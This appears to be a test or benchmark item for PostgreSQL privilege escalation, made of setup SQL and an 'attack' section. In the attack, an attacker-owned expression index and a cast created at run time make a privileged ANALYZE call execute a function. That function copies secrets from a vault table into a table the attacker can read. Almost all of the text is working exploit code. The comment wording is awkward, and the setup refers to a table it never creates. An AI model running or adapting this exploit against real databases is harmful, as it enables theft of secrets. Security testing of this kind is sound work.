-- Makes, by a text made at run time, a cast that the harmless function of an index uses from then on.
-- wants: read
-- proof: SELECT public.upkeep_of('mallory_own', 'kept_by_me', 0)
-- setup:
CREATE FUNCTION upkeep_of(name text, filled text, most int) RETURNS boolean LANGUAGE plpgsql AS $$ DECLARE n int; BEGIN EXECUTE format('ANALYZE %I', name); EXECUTE format('SELECT count(*) FROM %I', filled) INTO n; RETURN n > most; END $$;
CREATE TABLE kept_by_me (t text);
GRANT ALL ON kept_by_me TO mallory;
INSERT INTO mallory_own SELECT n FROM generate_series(100, 200) n;
-- attack:
CREATE FUNCTION copies() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.kept_by_me SELECT secret FROM public.vlt_account; END $$;
CREATE TYPE coin AS (n int);
CREATE FUNCTION harmless(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN length(CAST(ROW(n)::public.coin AS text)); END $$;
CREATE INDEX odd ON mallory_own (harmless(id));
CREATE FUNCTION copied(one coin) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.copies(); RETURN one.n; END $$;
DO $$ BEGIN EXECUTE 'CREATE CAST (coin AS ' || 'text) WITH FUNCTION copied(coin)'; END $$;
